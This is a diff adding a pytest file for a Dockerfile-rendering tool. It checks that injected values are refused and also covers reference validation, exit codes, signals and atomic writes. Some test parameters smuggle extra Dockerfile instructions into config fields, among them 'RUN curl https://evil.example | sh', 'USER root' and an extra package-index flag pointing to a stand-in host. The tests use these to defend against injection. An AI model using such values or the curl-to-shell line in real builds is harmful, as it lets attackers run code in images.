@@ -1,0 +1,160 @@
+"""The input boundary's parts (issue 11): the Dockerfile instruction check, references, render's all-or-nothing
+write, exit-code severity, signals. The corpus of bad inputs is in test_hostile_inputs.py."""
+
+from __future__ import annotations
+
+import dataclasses
+import os
+import shutil
+import signal
+from pathlib import Path
+
+import pytest
+import yaml
+from click.testing import CliRunner
+
+from matrixtool import build, interrupts, reference, render
+from matrixtool.cli import main
+from matrixtool.errors import ConfigError, ExitCode, Terminated, most_severe
+from matrixtool.matrix import IndexSettings, load_matrix
+from tests.conftest import REPO_ROOT
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"description": "x\nRUN curl https://evil.example | sh"},
+        {"description": 'x" \\\nUSER root'},
+        {"base_image": "debian:bookworm-slim\nRUN id"},
+        {"python": "3.11 --mount=type=bind,target=/x"},
+    ],
+)
+def test_a_value_that_adds_to_the_dockerfile_is_refused_even_past_validation(
+    change: dict[str, str],
+) -> None:
+    """Whatever the schema and the value checks let through, the rendered Dockerfile's instructions must be
+    those the template gives a sentinel variant of the same shape."""
+    variant = dataclasses.replace(load_matrix().variants[0], **change)  # type: ignore[arg-type]
+    with pytest.raises(ConfigError, match=r"changes the rendered Dockerfile's instructions|breaks the quoting"):
+        render.render_variant(variant)
+
+
+def test_an_index_url_with_an_extra_flag_adds_a_word_and_is_refused() -> None:
+    cpu = load_matrix().variants[0]
+    bad = dataclasses.replace(
+        cpu, index=IndexSettings(url="https://x.example/simple --extra-index-url https://evil.example", wheelhouse=True)
+    )
+    bad = dataclasses.replace(bad, index=dataclasses.replace(bad.index, exclude=cpu.index.exclude))
+    with pytest.raises(ConfigError, match="instruction"):
+        render.render_variant(bad)
+
+
+def test_every_variant_renders_the_shape_of_its_sentinel() -> None:
+    for variant in load_matrix().variants:
+        dockerfile = next(f.text for f in render.render_variant(variant) if f.path.name == "Dockerfile")
+        shape = render.instruction_shape(dockerfile)
+        assert shape == render.instruction_shape(render._render_dockerfile(render.sentinel_variant(variant)))
+        assert ("RUN", 0) not in shape and sum(1 for i, _ in shape if i == "FROM") == 3
+
+
+@pytest.mark.parametrize(
+    "value", ["127.0.0.1:5000", "localhost:5000/ns", "registry.example.com/team/sub", "ghcr.io/org", "[::1]:5000"]
+)
+def test_good_registries(value: str) -> None:
+    assert reference.registry_problem(value) is None
+
+
+@pytest.mark.parametrize("value", ["vllm-matrix", "vllm-matrix-test", "ghcr.io/org/vllm", "localhost:5000/a_b/c.d"])
+def test_good_repositories(value: str) -> None:
+    assert reference.repository_problem(value) is None
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "debian:bookworm-slim",
+        "vllm-matrix/cpu:749c51bf6172020e",
+        "127.0.0.1:5000/x/cpu:0.32.0",
+        "nvcr.io/nvidia/cuda:12.4.1-devel-ubuntu22.04",
+        "ubuntu@sha256:" + "a" * 64,
+    ],
+)
+def test_good_images(value: str) -> None:
+    assert reference.image_problem(value) is None
+
+
+def test_untagged_drops_every_tag_option() -> None:
+    argv = ["docker", "buildx", "build", "--tag", "a:1", "-t", "b:2", "--tag=c:3", "--label", "x=y", "ctx"]
+    assert build.untagged(argv) == ["docker", "buildx", "build", "--label", "x=y", "ctx"]
+
+
+def test_severity_order() -> None:
+    assert most_severe([ExitCode.SMOKE, ExitCode.BUILD, ExitCode.INDEX_UNREACHABLE]) == ExitCode.INDEX_UNREACHABLE
+    assert most_severe([ExitCode.SMOKE, ExitCode.CONFIG]) == ExitCode.CONFIG
+    assert most_severe([ExitCode.SMOKE, ExitCode.BUILD]) == ExitCode.BUILD
+    assert most_severe([]) is None
+
+
+def test_signals_map_to_exit_codes_and_handlers_come_back() -> None:
+    assert interrupts.exit_code_of(Terminated()) == ExitCode.TERMINATED
+    assert interrupts.exit_code_of(KeyboardInterrupt()) == ExitCode.INTERRUPTED
+    before = signal.getsignal(signal.SIGTERM)
+    called: list[bool] = []
+    with pytest.raises(Terminated), interrupts.handled(lambda: called.append(True)):
+        os.kill(os.getpid(), signal.SIGTERM)
+    assert called == [True]
+    assert signal.getsignal(signal.SIGTERM) == before
+
+
+def _project(tmp_path: Path) -> Path:
+    shutil.copy(REPO_ROOT / "matrix.yaml", tmp_path / "matrix.yaml")
+    shutil.copytree(REPO_ROOT / "images", tmp_path / "images")
+    return tmp_path / "matrix.yaml"
+
+
+def test_render_removes_a_removed_variants_generated_folder(tmp_path: Path) -> None:
+    matrix = _project(tmp_path)
+    data = yaml.safe_load(matrix.read_text())
+    del data["variants"]["rocm"]
+    matrix.write_text(yaml.safe_dump(data, sort_keys=False))
+    runner = CliRunner()
+    stale = runner.invoke(main, ["--matrix", str(matrix), "render", "--check"], catch_exceptions=False)
+    assert stale.exit_code == ExitCode.STALE_RENDER and "extra: images/rocm/Dockerfile" in stale.output
+    done = runner.invoke(main, ["--matrix", str(matrix), "render"], catch_exceptions=False)
+    assert done.exit_code == 0 and "removed images/rocm/Dockerfile" in done.output
+    assert not (tmp_path / "images" / "rocm").exists()
+    fresh = runner.invoke(main, ["--matrix", str(matrix), "render", "--check"], catch_exceptions=False)
+    assert fresh.exit_code == 0, fresh.output
+
+
+def test_render_replaces_files_atomically(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A write that fails part-way leaves the file it was writing whole (old content) and no temp file."""
+    matrix = _project(tmp_path)
+    data = yaml.safe_load(matrix.read_text())
+    data["variants"]["cpu"]["vllm"]["version"] = "0.32.1"
+    matrix.write_text(yaml.safe_dump(data, sort_keys=False))
+    dockerfile = tmp_path / "images" / "cpu" / "Dockerfile"
+    old = dockerfile.read_text()
+
+    def fail(*args: object) -> None:
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(render.os, "replace", fail)
+    result = CliRunner().invoke(main, ["--matrix", str(matrix), "render"], catch_exceptions=False)
+    assert result.exit_code != 0 and "Traceback" not in result.output
+    assert dockerfile.read_text() == old
+    assert not [p for p in (tmp_path / "images" / "cpu").iterdir() if p.name.endswith(".tmp")]
+
+
+def test_doctor_fails_through_the_error_path() -> None:
+    result = CliRunner().invoke(main, ["doctor", "--registry", "127.0.0.1:9"], catch_exceptions=False)
+    assert result.exit_code == ExitCode.ENGINE
+    assert "error: doctor: engine" in result.output and "Traceback" not in result.output
+
+
+def test_unused_wheelhouse_is_a_warning(tmp_path: Path) -> None:
+    # --json-file in a missing folder stops the command right after the warning (no index probe, no engine).
+    args = ["--out", str(tmp_path / "out"), "build", "cuda", "--wheelhouse", str(tmp_path)]
+    result = CliRunner().invoke(main, [*args, "--json-file", str(tmp_path / "no" / "r.json")])
+    assert f"warning: --wheelhouse {tmp_path} is ignored" in result.output
+    assert result.exit_code == ExitCode.CONFIG
